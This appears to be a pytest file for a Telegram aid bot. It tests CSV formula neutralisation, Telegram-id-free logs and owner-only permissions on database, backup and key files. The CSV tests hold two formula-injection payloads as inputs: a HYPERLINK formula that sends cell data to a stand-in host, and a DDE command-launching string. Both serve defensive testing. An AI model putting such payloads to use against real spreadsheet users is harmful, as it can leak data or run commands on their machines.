"""The smaller confidentiality rules: exports that a spreadsheet cannot run, logs without
Telegram ids, files created owner-only, and a key file others could read refused."""

from __future__ import annotations

import csv
import io
import json
import logging
import os
import re
import stat
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from cryptography.fernet import Fernet

from bot import reports
from bot.__main__ import backup_database
from bot.app import quiet_libraries
from bot.crypto import Cipher, load_or_create_key_file
from bot.errors import ConfigError
from bot.forms import CHILDREN, HOUSEHOLD_SIZE
from bot.rotation import write_keys
from bot.storage import Database, meta, people
from bot.storage.cases import Record
from bot.storage.db import iso
from tests.conftest import Harness, make_settings, start_app, stop_app
from tests.fakes.telegram import FakeTelegram
from tests.flows import Answers, act, approve_volunteer, full_intake
from tests.test_config import run_cli
from tests.test_volunteers import REGISTRATION

FORMULA = '=HYPERLINK("http://x/?"&A1,"open")'
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


async def export(h: Harness, member: int, choice: str) -> list[list[str]]:
    await h.say(member, "/export")
    calls = await h.press(member, rf"^ex:{choice}$")
    [document] = [c for c in calls if c.method == "sendDocument"]
    return read_csv(next(iter(document.files.values())).content)


# --- CSV -----------------------------------------------------------------------------------


async def test_full_export_neutralises_formulas(harness: Harness) -> None:
    h = harness
    ref = await full_intake(h, 808, Answers(name=FORMULA, area="@SUM(1+1)*cmd|' /C calc'!A0"))
    await h.say(900, "/start")
    rows = await export(h, 900, "full")
    row = rows[1]
    assert row[0] == ref
    assert "'" + FORMULA in row  # shown as text, exactly as typed
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in row
    for cell in (c for r in rows for c in r):
        assert not cell.startswith(DANGEROUS), cell


async def test_anonymised_export_neutralises_formulas_and_keeps_numbers(
    harness: Harness,
) -> None:
    h = harness
    form, t = h.services.form, h.services.i18n.get("en")
    household, children = form.role_id(HOUSEHOLD_SIZE), form.role_id(CHILDREN)
    created = datetime(2026, 3, 1, tzinfo=UTC)
    record = Record(
        id=1,
        ref="AAA-AAA",
        status="approved",
        created_at=iso(created),
        language="en",
        answers=json.dumps({household: "=1+2", children: "-2+3"}),
        sealed=None,
        decided_by_name=None,
        decided_at=iso(created - timedelta(days=1)),  # a clock set back: a negative duration
        support_until=None,
    )
    rows = read_csv(reports.export_anonymised(t, form, [record], h.services.settings.tz))
    assert "'=1+2" in rows[1] and "'-2+3" in rows[1]
    assert rows[1][-1] == "-1.0"  # a number the export writes itself stays a number


# --- logs ----------------------------------------------------------------------------------

MEMBER_A, MEMBER_B = 5_550_001_234, 5_550_004_321
FAMILY, OUTSIDER, VOLUNTEER = 7_770_009_876, 6_660_002_468, 8_880_006_543
GROUP = -1_007_778_889_990
IDS = (MEMBER_A, MEMBER_B, FAMILY, OUTSIDER, VOLUNTEER, GROUP)


@pytest.fixture
def library_levels() -> Iterator[None]:
    """The library loggers as production caps them (restored afterwards)."""
    names = ("httpx", "httpcore", "telegram", "aiosqlite", "apscheduler")
    before = {name: logging.getLogger(name).level for name in names}
    quiet_libraries("DEBUG")
    yield
    for name, level in before.items():
        logging.getLogger(name).setLevel(level)


async def test_no_telegram_id_in_any_log_line(
    tmp_path: Path, key: str, caplog: pytest.LogCaptureFixture, library_levels: None
) -> None:
    caplog.set_level(logging.DEBUG)
    settings = make_settings(
        tmp_path,
        ENCRYPTION_KEY=key,
        COMMITTEE_CHAT_ID=str(GROUP),
        COMMITTEE_MEMBER_IDS=f"{MEMBER_A},{MEMBER_B}",
    )
    fake = FakeTelegram()
    h = Harness(await start_app(settings, fake), fake)
    try:
        ref = await full_intake(h, FAMILY)
        fake.unreachable(MEMBER_B)
        await h.say(MEMBER_B, "/cases")  # a member who never started a private chat
        await h.press(MEMBER_B, rf"^cd:{ref}$", chat_id=GROUP)
        await h.press(OUTSIDER, rf"^cd:{ref}$", chat_id=GROUP)  # refused
        await h.press_data(OUTSIDER, f"cv:approve:{ref}", chat_id=GROUP)  # refused
        await h.say(MEMBER_A, "/start")
        await h.press(MEMBER_A, rf"^cd:{ref}$", chat_id=GROUP)
        await h.press(MEMBER_A, rf"^cv:ask:{ref}$", chat_id=GROUP)
        await h.say(MEMBER_A, "Which clinic?")
        await h.press(FAMILY, r"^fa:\d+$")
        await h.say(FAMILY, "Al-Bashir")
        await h.press(MEMBER_A, rf"^cv:approve:{ref}$", chat_id=GROUP)
        for action in (("press", r"^rv:sd:$"), ("press", r"^rv:p:3$"), ("say", "Sunday")):
            await act(h, MEMBER_A, action)
        await h.press(MEMBER_A, r"^rv:ok:$")
        await export(h, MEMBER_A, "full")
        await h.say(VOLUNTEER, "/volunteer")
        await h.press(VOLUNTEER, r"^vo:y$")
        for action in REGISTRATION:
            await act(h, VOLUNTEER, action)
        await h.press(VOLUNTEER, r":review:S:$")
        await approve_volunteer(h, MEMBER_A, GROUP)  # offers go to approved volunteers
        await h.say(MEMBER_A, "/newtask")
        for action in (
            ("say", "Drive a family to the hospital"),
            ("say", "Pick-up at 10:00 near the mosque."),
            ("press", r"^tw:s:driving$"),
            ("press", r"^tw:a:north$"),
            ("press", r"^tw:d:1$"),
            ("say", "10:00"),
            ("press", r"^tw:u:120$"),
            ("say", "1"),
            ("press", r"^tw:c:$"),
            ("press", r"^tw:p:$"),
        ):
            await act(h, MEMBER_A, action)
        await h.press(VOLUNTEER, r"^tk:a:")
        await h.say(VOLUNTEER, "/volunteer")
        await h.press(VOLUNTEER, r"^vo:l$")
        await h.press(VOLUNTEER, r"^vo:L$")
        await h.feed(h.updates.my_chat_member(FAMILY, "member", "kicked"))
        await h.feed(h.updates.my_chat_member(FAMILY, "kicked", "member"))
        await h.say(FAMILY, "/delete_my_data")
        await h.press(FAMILY, r"^pd:y$")
    finally:
        await stop_app(h.app)
    messages = [record.getMessage() for record in caplog.records]
    assert any("viewed" in m for m in messages)  # the flows did log
    for number in IDS:
        pattern = re.compile(rf"(?<!\d){abs(number)}(?!\d)")
        leaked = [m for m in messages if pattern.search(m)]
        assert leaked == [], number


# --- file modes ----------------------------------------------------------------------------


@pytest.fixture
def permissive_umask() -> Iterator[None]:
    """A umask that lets others read new files, as many servers have."""
    before = os.umask(0o022)
    yield
    os.umask(before)


@pytest.fixture
def no_chmod(monkeypatch: pytest.MonkeyPatch) -> None:
    """Files must be born owner-only: a chmod afterwards leaves a window, and is refused."""

    def refuse(*args: object, **kwargs: object) -> None:
        raise AssertionError("a file was chmod-ed after its creation")

    monkeypatch.setattr(os, "chmod", refuse)


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


async def test_database_and_backup_are_born_owner_only(
    tmp_path: Path, permissive_umask: None, no_chmod: None
) -> None:
    path = tmp_path / "data" / "sanad.db"
    db = Database(path)
    cipher = Cipher((Fernet.generate_key().decode(),))
    await db.open(cipher)
    try:
        ids = await meta.load_ids(db, cipher)
        async with db.transaction() as conn:
            await people.add(conn, ids, 1, "en")
        for file in path.parent.glob("sanad.db*"):
            assert mode(file) == 0o600, file
        target = tmp_path / "backups" / "copy.db"
        backup_database(path, target)
        assert mode(target) == 0o600
    finally:
        await db.close()


def test_key_files_are_born_owner_only(
    tmp_path: Path, permissive_umask: None, no_chmod: None
) -> None:
    path = tmp_path / "keys" / "secret.key"
    [first] = load_or_create_key_file(path)
    assert mode(path) == 0o600
    temporary = path.with_suffix(".tmp")
    temporary.write_text("left over\n")  # another run's leftover, readable by others
    assert mode(temporary) == 0o644
    second = Fernet.generate_key().decode()
    write_keys(path, (second, first))
    assert mode(path) == 0o600
    assert path.read_text().split() == [second, first]
    assert not temporary.exists()


def test_a_key_file_others_can_read_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "secret.key"
    path.write_text(Fernet.generate_key().decode() + "\n")
    path.chmod(0o640)
    with pytest.raises(ConfigError) as info:
        load_or_create_key_file(path)
    [line] = info.value.problems
    assert "chmod 600" in line and str(path) in line

    data = str(tmp_path / "data")  # the key lies apart from the data
    env = {"BOT_TOKEN": "123:abc", "DATA_DIR": data, "ENCRYPTION_KEY_FILE": str(path)}
    result = run_cli("rotate-key", env=env, cwd=tmp_path)
    assert result.returncode == 2
    assert result.stderr.strip().splitlines() == [f"Configuration error: {line}"]
    assert len(path.read_text().split()) == 1  # nothing was rotated
